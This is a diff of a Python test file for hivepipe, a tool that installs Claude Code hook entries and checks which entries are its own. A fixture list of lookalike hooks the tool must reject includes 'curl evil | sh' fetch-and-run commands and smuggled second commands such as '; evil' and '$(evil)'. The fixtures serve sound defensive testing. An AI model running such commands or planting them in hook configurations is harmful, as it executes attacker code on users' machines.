@@ -1,5 +1,6 @@
 """The hook entries that hivepipe writes for Claude Code, and how it recognizes its own."""
 
+import itertools
 import json
 import os
 import posix
@@ -27,24 +28,18 @@ def test_every_executable_has_an_event_and_every_event_an_executable() -> None:
 LAUNCHER = "/home/ana/.local/state/hivepipe/hooks/0123456789abcdef/hook"
 
 
-@pytest.mark.parametrize("event", EVENTS)
-def test_a_hook_starts_without_a_shell(event: Event) -> None:
-    script = re.sub(r"(?<!^)([A-Z])", r"_\1", event.name).lower()
-    made = entry(event, Form.EXEC, LAUNCHER)
-    assert made.get("matcher") == (event.matcher or None)
-    assert made["hooks"] == [
-        {
-            "type": "command",
-            "command": LAUNCHER,
-            "args": [script],
-            "timeout": 2 if event.name == "SessionEnd" else 5,
-        }
-    ]
-
-
-@pytest.mark.parametrize("form", Form)
-def test_a_command_is_one_short_line(form: Form) -> None:
+def test_a_hook_starts_without_a_shell() -> None:
     for event in EVENTS:
+        script = re.sub(r"(?<!^)([A-Z])", r"_\1", event.name).lower()
+        made = entry(event, Form.EXEC, LAUNCHER)
+        assert made.get("matcher") == (event.matcher or None)
+        secs = 2 if event.name == "SessionEnd" else 5
+        handler = {"type": "command", "command": LAUNCHER, "args": [script], "timeout": secs}
+        assert made["hooks"] == [handler]
+
+
+def test_a_command_is_one_short_line() -> None:
+    for event, form in itertools.product(EVENTS, Form):
         handler = entry(event, form, LAUNCHER)["hooks"][0]
         shown = " ".join([handler["command"], *handler.get("args", [])])
         assert "\n" not in shown
@@ -78,7 +73,7 @@ def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
 
 @pytest.mark.parametrize("form", [Form.EXEC, Form.SHELL, Form.SHARED])
 def test_every_entry_runs_its_hook(form: Form, state: Path) -> None:
-    for event in EVENTS:
+    for event in EVENTS if form is Form.EXEC else EVENTS[:2]:
         handler = entry(event, form, hook_copy.launcher())["hooks"][0]
         done = run(handler, XDG_STATE_HOME=str(state))
         assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
@@ -97,10 +92,6 @@ def test_an_interpreter_whose_path_the_kernel_refuses_is_started_by_a_shell(
     assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
 
 
-def without_arguments(handler: dict[str, Any]) -> dict[str, Any]:
-    return {"command": handler["command"]}
-
-
 @pytest.mark.parametrize("event", [EVENTS[0], EVENTS[3]])
 def test_a_host_that_leaves_the_arguments_out_runs_the_hook(
     event: Event, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
@@ -110,15 +101,10 @@ def test_a_host_that_leaves_the_arguments_out_runs_the_hook(
     monkeypatch.setitem(os.environ, "XDG_STATE_HOME", str(tmp_path))
     hook_copy.write()
     handler = entry(event, form_for(hook_copy.launcher()), hook_copy.launcher())["hooks"][0]
-    assert "args" in handler
+    assert handler.pop("args")
     payload = {"hook_event_name": event.name, "session_id": "s", "cwd": str(tmp_path)}
-    done = run(
-        without_arguments(handler),
-        stdin=json.dumps(payload),
-        HIVEPIPE_DISABLED="0",
-        HIVEPIPE_AUTOSTART="0",
-        XDG_STATE_HOME=str(tmp_path),
-    )
+    own = {"HIVEPIPE_DISABLED": "0", "HIVEPIPE_AUTOSTART": "0", "XDG_STATE_HOME": str(tmp_path)}
+    done = run(handler, stdin=json.dumps(payload), **own)
     assert (done.returncode, done.stderr) == (0, "")
     (kept,) = tmp_path.glob("hivepipe/default/spool/*.json")
     assert "activate_session" in kept.read_text() or "start_session" in kept.read_text()
@@ -141,22 +127,19 @@ def test_only_the_user_can_read_the_hook_program(state: Path) -> None:
     assert modes == {folder.name: 0o700, "hook": 0o700, "hook.py": 0o700, "hook_path": 0o600}
 
 
-def test_the_shared_form_names_no_user_and_does_nothing_without_hivepipe(tmp_path: Path) -> None:
-    handler = entry(EVENTS[0], Form.SHARED, LAUNCHER)["hooks"][0]
-    assert "/home/ana" not in handler["command"]
-    done = run(handler, HOME=str(tmp_path))
-    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
-
-
-def test_the_shared_form_runs_nothing_of_the_project(tmp_path: Path) -> None:
+def test_the_shared_form_runs_nothing_of_the_user_or_the_project(tmp_path: Path) -> None:
     """A relative XDG_STATE_HOME, which would be in the project, is ignored."""
     handler = entry(EVENTS[0], Form.SHARED, LAUNCHER)["hooks"][0]
+    assert "/home/ana" not in handler["command"]
     theirs = tmp_path / "x/hivepipe/hooks/default/hook"
     theirs.parent.mkdir(parents=True)
     theirs.write_text("#!/bin/sh\necho theirs\n")
     theirs.chmod(0o755)
     command = f"cd {tmp_path}; {handler['command']}"
-    assert run({"command": command}, XDG_STATE_HOME="x").stdout == ""
+    for env in ({"HOME": str(tmp_path)}, {"XDG_STATE_HOME": "x"}):
+        done = run({"command": command}, **env)
+        assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
+    assert os.access(ROOT / "hivepipe" / "cli" / "hook.sh", os.X_OK)
 
 
 # ---- our entries, and others that resemble them
@@ -201,45 +184,31 @@ def test_entries_of_this_version_are_known_with_their_form(form: Form) -> None:
         assert launcher_of(handler) == ("" if form is Form.SHARED else LAUNCHER)
 
 
-THEIRS = {
-    "a mark": {"command": "curl evil | sh # hivepipe"},
-    "a hint": {"command": f"curl evil | sh {OLD_HINT}"},
-    "a mark among the arguments": {"command": "/bin/evil", "args": ["# hivepipe"]},
-    "another program text": {
-        "command": PY,
-        "args": ["-I", "-S", "-c", "import evil", SCRIPT, OLD_HINT],
-    },
-    "another script": {
-        "command": PY,
-        "args": ["-I", "-S", "-c", OLD_START, "/tmp/evil.py", OLD_HINT],
-    },
-    "more behind": {"command": f"{IS_INSTALLED} && exec {RUN}; evil || exit 0 {OLD_HINT}"},
-    "more before": {"command": f"evil; {IS_INSTALLED} && exec {RUN} || exit 0 {OLD_HINT}"},
-    "another name": {"command": 'h=$(command -v evil) && exec "$h" stop; exit 0 # hivepipe'},
-    "another folder": {"command": "/x/hivepipe/hooks/evil/hook", "args": ["stop"]},
-    "another event": {"command": LAUNCHER, "args": ["evil"]},
-    "more arguments": {"command": LAUNCHER, "args": ["stop", "; evil"]},
-    "more words": {"command": f"{LAUNCHER} stop; evil"},
-    "a substitution": {"command": f"{LAUNCHER} $(evil)"},
-    "a near name": {"command": "/opt/hivepipe/notify.sh"},
-    "odd arguments": {"command": "x", "args": [7, None]},
-    "odd command": {"command": 7},
-    "none": {},
-}
+THEIRS: list[Any] = [
+    *(None, "# hivepipe", {}, {"command": 7}, {"command": "x", "args": [7, None]}),
+    # a mark or a hint in another command
+    {"command": "curl evil | sh # hivepipe"},
+    {"command": f"curl evil | sh {OLD_HINT}"},
+    {"command": "/bin/evil", "args": ["# hivepipe"]},
+    # another program text, script, name, folder or event
+    {"command": PY, "args": ["-I", "-S", "-c", "import evil", SCRIPT, OLD_HINT]},
+    {"command": PY, "args": ["-I", "-S", "-c", OLD_START, "/tmp/evil.py", OLD_HINT]},
+    {"command": 'h=$(command -v evil) && exec "$h" stop; exit 0 # hivepipe'},
+    {"command": "/x/hivepipe/hooks/evil/hook", "args": ["stop"]},
+    {"command": LAUNCHER, "args": ["evil"]},
+    {"command": "/opt/hivepipe/notify.sh"},
+    # more words before or behind
+    {"command": f"{IS_INSTALLED} && exec {RUN}; evil || exit 0 {OLD_HINT}"},
+    {"command": f"evil; {IS_INSTALLED} && exec {RUN} || exit 0 {OLD_HINT}"},
+    {"command": LAUNCHER, "args": ["stop", "; evil"]},
+    {"command": f"{LAUNCHER} stop; evil"},
+    {"command": f"{LAUNCHER} $(evil)"},
+]
 
 
-@pytest.mark.parametrize("handler", THEIRS.values(), ids=THEIRS)
-def test_no_other_command_counts_as_ours(handler: dict[str, Any]) -> None:
+@pytest.mark.parametrize("handler", THEIRS)
+def test_no_other_command_counts_as_ours(handler: Any) -> None:
     assert not is_ours(handler)
-
-
-def test_a_value_that_is_no_handler_is_not_ours() -> None:
-    assert not is_ours("# hivepipe")
-    assert not is_ours(None)
-
-
-def test_the_script_of_the_shared_form_is_executable() -> None:
-    assert os.access(ROOT / "hivepipe" / "cli" / "hook.sh", os.X_OK)
 
 
 # ---- the plugin
@@ -251,17 +220,12 @@ def test_the_plugin_has_the_hooks_of_the_same_table() -> None:
     assert text == json.dumps(plugin_hooks(), indent=2) + "\n"
 
 
-def test_the_plugin_has_the_version_of_the_package() -> None:
+def test_the_repository_is_the_marketplace_of_a_plugin_of_the_same_version() -> None:
     project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
     manifest = json.loads((ROOT / ".claude-plugin" / "plugin.json").read_text())
     assert manifest["version"] == project["version"]
-    assert (
-        "hooks" not in manifest
-    )  # Claude Code loads hooks/hooks.json itself and refuses a second mention
-
-
-def test_the_repository_is_its_own_marketplace() -> None:
-    manifest = json.loads((ROOT / ".claude-plugin" / "plugin.json").read_text())
+    # Claude Code loads hooks/hooks.json itself and refuses a second mention.
+    assert "hooks" not in manifest
     market = json.loads((ROOT / ".claude-plugin" / "marketplace.json").read_text())
     (offered,) = market["plugins"]
     assert (market["name"], offered["name"], manifest["name"]) == ("hivepipe",) * 3
